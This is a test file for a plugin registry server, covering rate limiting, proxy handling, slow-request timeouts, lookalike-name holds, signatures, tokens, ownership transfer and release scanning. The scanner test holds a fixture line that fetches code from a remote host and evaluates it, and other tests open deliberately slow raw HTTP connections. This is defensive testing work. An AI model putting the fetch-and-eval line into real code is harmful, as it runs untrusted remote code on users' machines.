/** How much a server takes of one, and when it takes more, with the clock in the test's hand. */
import { expect, test } from "bun:test";
import { connect } from "node:net";
import { placeOf } from "../../registry/layout.ts";
import type { Resemblance } from "../../registry/server/names.ts";
import { openOperator } from "../../registry/server/operator.ts";
import { checkedSettings } from "../../registry/server/settings.ts";
import { createSigner, type Signer } from "../../registry/trust/key.ts";
import { parseMetadata, type Signed, signMetadata } from "../../registry/trust/metadata.ts";
import { signStatement, type Transfer } from "../../registry/trust/statement.ts";
import { post } from "./parcel.ts";
import { type Place, withServer } from "./timed-server.ts";

test("who asks too often is told when to come back, and is answered then", async () => {
  await withServer({ rates: { reads: { burst: 3, perMinute: 6 } } }, async ({ server, clock }) => {
    const ask = () => fetch(`${server.url}/api/v1/search?q=x`);
    for (let time = 0; time < 3; time++) expect((await ask()).status).toBe(200);
    const refused = await ask();
    expect([refused.status, refused.headers.get("retry-after")]).toEqual([429, "10"]);
    expect(await refused.json()).toMatchObject({ code: "REGISTRY_RATE_LIMITED" });
    await clock.advance(9_000);
    expect((await ask()).status).toBe(429);
    await clock.advance(1_000);
    expect((await ask()).status).toBe(200);
    expect((await ask()).status).toBe(429);
    // Files are counted apart.
    expect((await fetch(`${server.url}/metadata/timestamp.json`)).status).toBe(200);
  });
});

test("behind a proxy it is the address that the proxy saw, and without one nobody is believed who says another", async () => {
  const rates = { reads: { burst: 1, perMinute: 1 } };
  const ask = (url: string, from: string) => fetch(`${url}/api/v1/search`, { headers: { "x-forwarded-for": from } });
  await withServer({ rates }, async ({ server }) => {
    expect((await ask(server.url, "203.0.113.1")).status).toBe(200);
    expect((await ask(server.url, "203.0.113.2")).status).toBe(429);
  });
  await withServer({ rates, proxies: 1 }, async ({ server }) => {
    expect((await ask(server.url, "203.0.113.1")).status).toBe(200);
    expect((await ask(server.url, "203.0.113.9, 203.0.113.1")).status).toBe(429);
    expect((await ask(server.url, "203.0.113.2")).status).toBe(200);
    expect((await ask(server.url, "2001:db8:1:2:a::1")).status).toBe(200);
    expect((await ask(server.url, "2001:db8:1:2:b::1")).status).toBe(429);
    expect((await ask(server.url, "2001:db8:1:3::1")).status).toBe(200);
  });
});

test("new names are few, publications are bounded, and so is their size", async () => {
  await withServer({ rates: { claims: { burst: 2, perMinute: 1 } } }, async ({ server, clock, parcel }) => {
    const statuses: number[] = [];
    for (const id of ["one", "two", "three"])
      statuses.push((await post(server.url, await parcel(`of-${id}`, createSigner().signer, id))).status);
    expect(statuses).toEqual([201, 201, 429]);
    await clock.advance(60_000);
    expect((await post(server.url, await parcel("of-three", createSigner().signer, "three"))).status).toBe(201);
  });
  await withServer({ publicationBytes: 20_000 }, async ({ server, parcel }) => {
    const large = await parcel("ada", createSigner().signer, "large", { archive: new Uint8Array(30_000) });
    const response = await fetch(`${server.url}/api/v1/publish`, { method: "POST", body: large.body, headers: large.headers });
    expect(response.status).toBe(413);
    expect((await post(server.url, await parcel("ada", createSigner().signer, "small"))).status).toBe(201);
  });
});

test("who sends byte after byte is sent away when the time is over, and holds up nobody", async () => {
  await withServer({ bodySeconds: 20, uploads: 2 }, async ({ server, clock, parcel }) => {
    const { hostname, port } = new URL(server.url);
    const { body, headers } = await parcel("slow", createSigner().signer, "slow");
    const head = Object.entries({ ...headers, host: `${hostname}:${port}`, "content-length": String(body.length) }).map(
      ([name, value]) => `${name}: ${value}`,
    );
    const slow = () => {
      const socket = connect(Number(port), hostname);
      const answered = new Promise<string>((resolve) => {
        let text = "";
        socket.on("data", (chunk) => {
          text += chunk.toString("latin1");
          if (text.endsWith("}")) resolve(text);
        });
        socket.on("close", () => resolve(text));
        socket.on("error", () => resolve(text));
      });
      socket.write(`POST /api/v1/publish HTTP/1.1\r\n${head.join("\r\n")}\r\n\r\n`);
      socket.write(body.subarray(0, 100));
      return { socket, answered };
    };
    const [one, two] = [slow(), slow()];
    // There is place for one; the other is told so at once, and whoever comes after them too.
    const refused = await Promise.race([one, two].map(({ answered, socket }) => answered.then((text) => ({ text, socket }))));
    expect(refused.text).toMatch(/^HTTP\/1\.1 503 [\s\S]*retry-after: 2[\s\S]*REGISTRY_BUSY/i);
    expect(await post(server.url, await parcel("ada", createSigner().signer, "third"))).toMatchObject({
      status: 503,
      code: "REGISTRY_BUSY",
    });
    expect((await fetch(`${server.url}/metadata/timestamp.json`)).status).toBe(200);
    await clock.advance(20_000);
    const left = refused.socket === one.socket ? two : one;
    expect(await left.answered).toMatch(/^HTTP\/1\.1 408 [\s\S]*REGISTRY_TOO_SLOW/);
    for (const { socket } of [one, two]) socket.destroy();
    expect((await post(server.url, await parcel("late", createSigner().signer, "late"))).status).toBe(201);
  });
});

test("a name that looks like another waits for the operator, whose word stands above the rule", async () => {
  const resembles: Resemblance = ({ id }) => (id === "telegrom" ? "it looks like telegram" : undefined);
  const signer = createSigner().signer;
  await withServer(
    {},
    async ({ server, folder, clock, parcel }) => {
      const ask = async () => post(server.url, await parcel("eve", signer, "telegrom"));
      expect(await ask()).toMatchObject({
        status: 403,
        code: "REGISTRY_NAME_HELD",
        detail: expect.stringContaining("it looks like telegram"),
      });
      using operator = openOperator(folder, () => clock.now());
      expect(operator.names.held()).toMatchObject([{ kind: "plugins", id: "telegrom", publisher: "eve" }]);
      operator.names.grant({ kind: "plugins", id: "telegrom" }, "eve", { keys: [signer], threshold: 1 });
      expect(operator.names.held()).toEqual([]);
      expect(await ask()).toMatchObject({ status: 201 });
    },
    resembles,
  );
  // Without another rule it is what many have downloaded that is not imitated.
  await withServer({ popularDownloads: 1 }, async ({ server, parcel }) => {
    const sent = await parcel("ada", signer, "weather-station");
    const [path, target] = Object.entries(sent.list.targets)[0]!;
    expect(await post(server.url, sent)).toMatchObject({ status: 201 });
    const asked = async (publisher: string, by: Signer) => post(server.url, await parcel(publisher, by, "weather-statoin"));
    await (await fetch(`${server.url}/${placeOf(path, target.hashes.sha256)}`)).arrayBuffer();
    expect(await asked("eve", createSigner().signer)).toMatchObject({
      code: "REGISTRY_NAME_HELD",
      detail: expect.stringContaining("it could be taken for weather-station"),
    });
  });
  await withServer({ claims: "granted" }, async ({ server, folder, clock, parcel }) => {
    expect(await post(server.url, await parcel("ada", signer, "weather"))).toMatchObject({ code: "REGISTRY_NAME_HELD" });
    using operator = openOperator(folder, () => clock.now());
    operator.names.grant({ kind: "plugins", id: "weather" }, "bob", { keys: [signer], threshold: 1 });
    expect(await post(server.url, await parcel("ada", signer, "weather"))).toMatchObject({ code: "REGISTRY_FORBIDDEN" });
    expect(await post(server.url, await parcel("bob", signer, "weather"))).toMatchObject({ status: 201 });
  });
});

test("what the server signs is signed anew long before it expires", async () => {
  await withServer({}, async ({ server, clock }) => {
    const timestamp = async () => {
      const bytes = new Uint8Array(await (await fetch(`${server.url}/metadata/timestamp.json`)).arrayBuffer());
      return Date.parse(parseMetadata("timestamp", "timestamp", bytes).signed.expires);
    };
    for (let day = 0; day < 12; day++) {
      await clock.advance(6 * 60 * 60 * 1000);
      expect((await timestamp()) - clock.now()).toBeGreaterThan(6 * 60 * 60 * 1000);
    }
  });
});

test("a request that is signed for another registry is taken by none, whatever host it says it is for", async () => {
  const { signer } = createSigner();
  const address = "https://registry.example.org/pincer";
  const asked = async ({ server, parcel }: Place, url: string, id: string) => {
    const sent = await parcel("ada", signer, id, { url });
    return post(server.url, { ...sent, headers: { ...sent.headers, host: new URL(url).host } });
  };
  await withServer({ address: `${address}/` }, async (place) => {
    for (const url of ["https://registry.example.org", "http://registry.example.org", "https://eve.example", place.server.url])
      expect([url, await asked(place, url, "weather")]).toEqual([
        url,
        expect.objectContaining({ status: 421, code: "REGISTRY_MISDIRECTED", detail: expect.stringContaining(`is ${address}:`) }),
      ]);
    expect(await asked(place, address.replace("https", "http"), "weather")).toMatchObject({
      status: 401,
      detail: expect.stringContaining(`expected one over POST ${address}/api/v1/publish`),
    });
    expect(await asked(place, address, "weather")).toMatchObject({ status: 201 });
  });
  // What is behind a proxy, and says nowhere what it is called, believes no host that it is told.
  await withServer({ proxies: 1 }, async (place) => {
    expect(await asked(place, "https://registry.example.org", "weather")).toMatchObject({
      status: 421,
      detail: expect.stringContaining("`address` in its server.json"),
    });
    using operator = openOperator(place.folder, () => place.clock.now());
    const { token } = operator.tokens.create({ publisher: "ada", scopes: ["publish"], lifeMs: 60_000 });
    expect(await post(place.server.url, await place.parcel("ada", signer, "weather", { token }))).toMatchObject({ status: 201 });
  });
  for (const wrong of ["registry.example.org", "https://a:b@x", "https://x/?y", "https://[x"])
    expect(() => checkedSettings({ address: wrong }, "settings")).toThrow(/\/address/);
});

test("an expired token counts no more", async () => {
  await withServer({}, async ({ server, folder, clock, parcel }) => {
    using operator = openOperator(folder, () => clock.now());
    const { token } = operator.tokens.create({ publisher: "ada", scopes: ["publish"], lifeMs: 60_000 });
    const signer = createSigner().signer;
    expect(await post(server.url, await parcel("ada", signer, "weather", { token }))).toMatchObject({ status: 201 });
    await clock.advance(60_000);
    expect(await post(server.url, await parcel("ada", signer, "other", { token }))).toMatchObject({
      status: 401,
      detail: expect.stringContaining("expired"),
    });
  });
});

test("what was found in a release is told to whoever publishes it, to whoever asks, and can be a reason to refuse it", async () => {
  const files = { "plugin.ts": 'eval(await (await fetch("https://tracker.io/x")).text());' };
  const signer = createSigner().signer;
  await withServer({}, async ({ server, parcel }) => {
    const answer = await post(server.url, await parcel("eve", signer, "weather", { files }));
    expect(answer).toMatchObject({
      status: 201,
      released: [{ findings: expect.arrayContaining([expect.objectContaining({ rule: "code-from-text", severity: "high" })]) }],
    });
    const page = await (await fetch(`${server.url}/api/v1/packages/plugins/weather`)).json();
    expect(page).toMatchObject({ releases: [{ findings: { high: 2 } }] });
    expect(await (await fetch(`${server.url}/api/v1/packages/plugins/weather/1.0.0`)).json()).toMatchObject({
      findings: expect.arrayContaining([expect.objectContaining({ rule: "undeclared-host", file: "plugin.ts", line: 1 })]),
    });
  });
  const resembles: Resemblance = ({ id }) => (id === "wether" ? "it looks like weather" : undefined);
  await withServer(
    { refuseFindings: "high" },
    async ({ server, parcel }) => {
      const send = async (id: string, more = files) => (await post(server.url, await parcel(`of-${id}`, signer, id, { files: more }))).code;
      expect(await send("weather")).toBe("REGISTRY_FORBIDDEN");
      // What is refused anyway is not looked through before.
      expect(await send("wether")).toBe("REGISTRY_NAME_HELD");
      expect(await post(server.url, await parcel("ada", createSigner().signer, "tides"))).toMatchObject({ status: 201 });
      expect(await send("tides")).toBe("REGISTRY_NAME_TAKEN");
    },
    resembles,
  );
});

test("a scan that takes too long is ended and told as grave, and others are answered while it runs", async () => {
  // Seconds for the rules, while each turn of the loop below is a second to the server.
  const slow = "eval(import(a `".repeat(120_000);
  await withServer(
    { bodySeconds: 1e9, scanSeconds: 30, rates: { reads: { burst: 1e6, perMinute: 1 } } },
    async ({ server, clock, parcel }) => {
      const { signer } = createSigner();
      let answer: Awaited<ReturnType<typeof post>> | undefined;
      const publication = post(
        server.url,
        await parcel("eve", signer, "weather", { files: { "plugin.ts": slow, "a.ts": slow, "b.ts": slow } }),
      ).then((one) => {
        answer = one;
      });
      let answered = 0;
      while (answer === undefined) {
        expect((await fetch(`${server.url}/api/v1/`)).status).toBe(200);
        answered += 1;
        await clock.advance(1000);
      }
      await publication;
      expect(answer).toMatchObject({ status: 201, released: [{ findings: [{ rule: "unscanned", severity: "high" }] }] });
      expect(answered).toBeGreaterThanOrEqual(30);
      expect(await (await fetch(`${server.url}/api/v1/packages/plugins/weather/1.0.0`)).json()).toMatchObject({
        findings: [{ rule: "unscanned", file: "plugin.json", sentence: expect.stringContaining("could not be looked through in 30 s") }],
      });
    },
  );
});

test("what founders would have signed, which anybody may send, is read no further than such a file is long", async () => {
  await withServer({}, async ({ server }) => {
    const form = new FormData();
    form.set("staged", new Blob([" ".repeat(13 * 2 ** 20)]));
    const response = await fetch(`${server.url}/api/v1/staged`, { method: "POST", body: form });
    expect(response.status).toBe(413);
    expect(await response.json()).toMatchObject({ code: "REGISTRY_TOO_LARGE" });
  });
});

test("a name is offered by whose it is, and becomes another's when that one takes it, with all its releases", async () => {
  await withServer({}, async ({ server, folder, clock, parcel }) => {
    const [ada, bob, eve] = [createSigner().signer, createSigner().signer, createSigner().signer];
    const sent = await parcel("ada", ada, "weather");
    await post(server.url, sent);
    const path = "/api/v1/packages/plugins/weather/owner";
    const page = async () => (await (await fetch(`${server.url}${path}`)).json()) as { publisher: string; offer: unknown };
    const send = async (fields: Readonly<Record<string, string | Uint8Array<ArrayBuffer>>>, token?: string) => {
      const form = new FormData();
      for (const [name, value] of Object.entries(fields)) form.set(name, typeof value === "string" ? value : new Blob([value]));
      const response = await fetch(`${server.url}${path}`, {
        method: "POST",
        body: form,
        ...(token && { headers: { authorization: `Bearer ${token}` } }),
      });
      return { status: response.status, ...((await response.json()) as object) };
    };
    const wish: Transfer = {
      _type: "transfer",
      kind: "plugins",
      id: "weather",
      from: "ada",
      to: "bob",
      keys: [bob.json.keyval.public],
      list: 1,
      expires: "2031-06-01T00:00:00Z",
    };
    expect(await send({ statement: signStatement(wish, [eve]) })).toMatchObject({ status: 403, code: "REGISTRY_METADATA_UNSIGNED" });
    expect(await send({ statement: signStatement({ ...wish, list: 0 }, [ada]) })).toMatchObject({ code: "REGISTRY_METADATA_INVALID" });
    expect(await page()).toMatchObject({ publisher: "ada", offer: null });
    expect(await send({ statement: signStatement(wish, [ada]) })).toMatchObject({ status: 200, publisher: "ada", offer: { signed: wish } });

    const taken: Signed<"targets"> = { ...sent.list, version: 1, targets: sent.list.targets };
    const by = (signer: Signer) => ({
      metadata: signMetadata(taken, [signer]),
      keys: JSON.stringify({ keys: [signer.json.keyval.public] }),
    });
    const folderTokens = async (publisher: string) => {
      using operator = openOperator(folder, () => clock.now());
      return operator.tokens.create({ publisher, scopes: ["publish"], lifeMs: 3_600_000 }).token;
    };
    expect(await send({ publisher: "eve", ...by(eve) }, await folderTokens("eve"))).toMatchObject({
      status: 403,
      code: "REGISTRY_FORBIDDEN",
    });
    expect(await send({ publisher: "bob", ...by(bob) })).toMatchObject({ status: 401 });
    expect(await send({ publisher: "bob", ...by(bob) }, await folderTokens("bob"))).toMatchObject({
      status: 200,
      publisher: "bob",
      offer: null,
    });
    // Whose keys ada has is not said any more: the list that was signed last is what the next one builds on.
    const [first] = Object.keys(taken.targets);
    expect(await (await fetch(`${server.url}/api/v1/publishers/ada`)).json()).toMatchObject({
      ...{ keys: [], handedOver: [first], list: { version: 1 } },
    });
    const next = { before: taken, release: { kind: "plugins", id: "weather", version: "2.0.0" } } as const;
    expect(await post(server.url, await parcel("bob", bob, "weather", next))).toMatchObject({ status: 201 });
    const { before: _none, ...alone } = next;
    const back = { before: sent.list, change: (list: Signed<"targets">) => list };
    expect(await post(server.url, await parcel("ada", ada, "weather", { ...next, ...back }))).toMatchObject({
      ...{ status: 403, code: "REGISTRY_NAME_TAKEN" },
    });
    // The name of the publisher is nobody else's for that.
    expect(
      await post(server.url, await parcel("ada", eve, "another", { ...alone, release: { ...next.release, id: "another" } })),
    ).toMatchObject({
      code: "REGISTRY_FORBIDDEN",
    });
    expect(await (await fetch(`${server.url}/api/v1/packages/plugins/weather`)).json()).toMatchObject({
      version: "2.0.0",
      publisher: { name: "bob" },
    });
  });
});

test("nobody says of a release that it has been out for long already, or will be, or at a time that is none", async () => {
  const ada = createSigner().signer;
  await withServer({}, async ({ server, parcel }) => {
    for (const publishedAt of ["2031-05-03T10:00:00Z", "2031-05-04T12:00:00Z", "2031-99-99T99:99:99Z"])
      expect(await post(server.url, await parcel("ada", ada, "weather", { notes: { publishedAt } }))).toMatchObject({
        status: 422,
        code: "REGISTRY_METADATA_INVALID",
      });
    const before = await parcel("ada", ada, "weather", { notes: { publishedAt: "2031-05-04T09:30:00Z" } });
    expect((await post(server.url, before)).status).toBe(201);
  });
});

test("who hands a name over, or seems to, takes no more of the server at once than who publishes", async () => {
  await withServer({ bodySeconds: 20, uploads: 2 }, async ({ server, clock }) => {
    const { hostname, port } = new URL(server.url);
    const socket = connect(Number(port), hostname);
    const answered = new Promise<string>((resolve) => {
      let text = "";
      socket.on("data", (chunk) => {
        text += chunk.toString("latin1");
        if (text.endsWith("}")) resolve(text);
      });
    });
    const head = ["host: x", "content-type: multipart/form-data; boundary=x", "content-length: 1000000"];
    socket.write(`POST /api/v1/packages/plugins/weather/owner HTTP/1.1\r\n${head.join("\r\n")}\r\n\r\n--x`);
    const send = async () => (await fetch(`${server.url}/api/v1/packages/plugins/weather/owner`, { method: "POST", body: "x" })).status;
    // The server has it when the place is taken.
    let status = await send();
    for (let time = 0; time < 50 && status !== 503; time++) status = await send();
    expect(status).toBe(503);
    await clock.advance(20_000);
    expect(await answered).toMatch(/^HTTP\/1\.1 408 [\s\S]*REGISTRY_TOO_SLOW/);
    socket.destroy();
  });
});
